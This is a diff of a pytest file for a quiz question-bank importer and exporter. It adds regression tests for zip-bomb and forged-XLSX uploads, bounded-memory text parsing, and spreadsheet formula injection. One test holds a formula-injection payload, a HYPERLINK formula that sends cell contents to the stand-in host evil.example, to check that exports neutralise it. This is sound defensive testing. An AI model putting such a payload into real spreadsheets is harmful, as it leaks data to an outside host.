@@ -2,15 +2,21 @@
 
 import io
 import json
+import re
+import tracemalloc
+from pathlib import Path
 
 import pytest
 import sqlalchemy as sa
 from openpyxl import Workbook, load_workbook
 
+from app.accounts.models import ImportJob
 from app.extensions import db
+from app.quiz import bank
 from app.quiz.importers import COLUMNS, ImportFileError, import_questions, template_xlsx
 from app.quiz.models import Question, QuestionKind
-from tests.helpers import count
+from tests.core.test_spreadsheets import MEMORY_BOUND, forged_dimension_xlsx, ratio_bomb_xlsx
+from tests.helpers import config_set, count
 
 GIFT = """// 每种支持的题型各一道
 $CATEGORY: $course$/top/党史
@@ -171,9 +177,9 @@ def test_duplicates_of_the_bank_and_within_the_file_are_skipped():
 
 
 def test_the_export_uses_the_template_and_reimports_as_duplicates(login_as, client):
-    import_questions(template_xlsx(), "t.xlsx", actor=None)
-    import_questions(AIKEN.encode(), "a.txt", actor=None)
-    login_as("trainer")
+    trainer = login_as("trainer")  # a trainer exports the questions they own (finding 9)
+    import_questions(template_xlsx(), "t.xlsx", actor=trainer)
+    import_questions(AIKEN.encode(), "a.txt", actor=trainer)
     response = client.get("/quiz/bank/export.xlsx")
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.data)).active
@@ -254,15 +260,20 @@ def test_the_import_page_shows_the_report(login_as, client):
     login_as("trainer")
     assert client.get("/quiz/bank/import").status_code == 200
     bad = xlsx([row("单选题", "坏题", ["甲", "乙"], "Z")])
+    # The import runs on a worker (eagerly in tests); its job page shows the report (finding 5).
     response = client.post(
-        "/quiz/bank/import", data={"file": (io.BytesIO(bad), "bank.xlsx")}, content_type="multipart/form-data"
+        "/quiz/bank/import",
+        data={"file": (io.BytesIO(bad), "bank.xlsx")},
+        content_type="multipart/form-data",
+        follow_redirects=True,
     )
-    assert response.status_code == 400
+    assert response.status_code == 200
     assert "答案「Z」不在选项 A、B 中" in response.get_data(as_text=True)
     response = client.post(
         "/quiz/bank/import",
         data={"file": (io.BytesIO(AIKEN.encode()), "a.txt"), "category": "党章"},
         content_type="multipart/form-data",
+        follow_redirects=True,
     )
     assert response.status_code == 200
     assert "导入 2 道题目" in response.get_data(as_text=True)
@@ -273,3 +284,136 @@ def test_members_cannot_import(login_as, client):
     login_as("member")
     assert client.get("/quiz/bank/import").status_code == 403
     assert client.get("/quiz/bank/template.xlsx").status_code == 403
+
+
+# --- finding 5: import bombs and imports on a worker --------------------------------------------
+
+
+def peak(work):
+    """(what ``work()`` returned or raised, peak memory it took)."""
+    tracemalloc.start()
+    try:
+        try:
+            outcome = work()
+        except ImportFileError as exc:
+            outcome = exc
+        return outcome, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def test_finding5_the_web_import_runs_on_a_worker_with_a_progress_page(login_as, client, create_user, login):
+    trainer = login_as("trainer")
+    response = client.post(
+        "/quiz/bank/import",
+        data={"file": (io.BytesIO(AIKEN.encode()), "a.txt"), "category": "党章"},
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 302
+    job_url = response.headers["Location"]
+    assert re.fullmatch(r"/quiz/bank/import/\d+", job_url)
+    assert client.get(job_url + "?format=json").get_json() == {
+        "success": True,
+        "data": {"status": "done", "percent": 100, "processed": 2, "total": 2, "finished": True},
+    }
+    job = db.session.get(ImportJob, int(job_url.rsplit("/", 1)[1]))
+    assert (job.kind, job.created_count, job.skipped_count) == ("questions", 2, 0)
+    assert not Path(job.stored_path).exists()
+    owners = set(db.session.scalars(sa.select(Question.owner_id)))
+    assert owners == {trainer.id}
+    assert "a.txt" in client.get("/quiz/bank/import").get_data(as_text=True)
+    # Someone else's job: another trainer is refused; the members' job page does not show it.
+    client.post("/logout")
+    login(create_user("trainer"))
+    assert client.get(job_url).status_code == 403
+    client.post("/logout")
+    login_as("admin")
+    assert client.get(job_url).status_code == 200
+    assert client.get(f"/users/import/{job.id}").status_code == 404
+
+
+def test_finding5_an_unreadable_upload_is_a_rejected_job_with_the_reason(login_as, client):
+    login_as("trainer")
+    response = client.post(
+        "/quiz/bank/import",
+        data={"file": (io.BytesIO(ratio_bomb_xlsx()), "bank.xlsx")},
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
+    page = response.get_data(as_text=True)
+    assert 'data-testid="import-rejected"' in page
+    assert "压缩比异常" in page
+    assert count(Question) == 0
+
+
+def test_finding5_an_unknown_file_type_is_refused_before_a_job_exists(login_as, client):
+    login_as("trainer")
+    jobs = count(ImportJob)
+    response = client.post(
+        "/quiz/bank/import",
+        data={"file": (io.BytesIO(b"%PDF-1.4"), "bank.pdf")},
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 422
+    assert "只支持 XLSX、GIFT" in response.get_data(as_text=True)
+    assert count(ImportJob) == jobs
+
+
+def test_finding5_a_forged_xlsx_dimension_reads_only_real_rows_in_bounded_memory():
+    data = forged_dimension_xlsx([COLUMNS, row("单选题", "真题", ["甲", "乙"], "A")])
+    report, memory = peak(lambda: import_questions(data, "forged.xlsx", actor=None))
+    assert memory < MEMORY_BOUND
+    assert report.as_json() == {"imported": 1, "duplicates": 0, "errors": []}
+
+
+def test_finding5_a_zip_bomb_is_refused_before_it_is_inflated():
+    error, memory = peak(lambda: import_questions(ratio_bomb_xlsx(), "bomb.xlsx", actor=None))
+    assert memory < MEMORY_BOUND
+    assert isinstance(error, ImportFileError)
+    assert "压缩比异常" in str(error)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (AIKEN.encode() + b"\n" * (4 * 1024 * 1024), None),  # newlines after real questions: read, bounded
+        (b"::q:: " + b"x" * (4 * 1024 * 1024) + b" {T}", "超过 100000 个字符"),  # one endless line
+        (b"\n".join([b"::q:: x"] * 300_000) + b" {T}", "超过 100000 个字符"),  # one endless block
+    ],
+)
+def test_finding5_text_banks_are_streamed_in_bounded_memory(content, message):
+    outcome, memory = peak(lambda: import_questions(content, "bank.gift" if message else "a.txt", actor=None))
+    assert memory < MEMORY_BOUND
+    if message is None:
+        assert outcome.imported == 2
+    else:
+        assert isinstance(outcome, ImportFileError)
+        assert message in str(outcome)
+
+
+def test_finding5_the_question_limit_is_a_setting_checked_while_reading(app):
+    with config_set(app, QUIZ_IMPORT_MAX_QUESTIONS=1):
+        with pytest.raises(ImportFileError, match="一次最多导入 1 道题"):
+            import_questions(AIKEN.encode(), "a.txt", actor=None)
+        with pytest.raises(ImportFileError, match="一次最多导入 1 行"):
+            import_questions(template_xlsx(), "t.xlsx", actor=None)
+    assert count(Question) == 0
+
+
+# --- finding 4: the question bank export runs no formula ----------------------------------------
+
+
+def test_finding4_the_bank_export_neutralises_formulas_and_reimports_as_the_same_questions(login_as, client):
+    trainer = login_as("trainer")
+    evil = '=HYPERLINK("http://evil.example/?x="&A3,"点击")'
+    fields = bank.clean_question("single", evil, ["-1", "@2"], "A", "+3", 4)
+    bank.create_question(fields, trainer)  # typed in the form: stored as written
+    response = client.get("/quiz/bank/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
+    cells = [cell for r in sheet.iter_rows() for cell in r]
+    assert not any(cell.data_type == "f" for cell in cells)
+    values = [cell.value for cell in cells]
+    assert {"'" + evil, "'-1", "'@2", "'+3"} <= set(values)
+    assert 4 in values  # numbers stay numbers
+    report = import_questions(response.data, "export.xlsx", actor=trainer)
+    assert report.as_json() == {"imported": 0, "duplicates": 1, "errors": []}
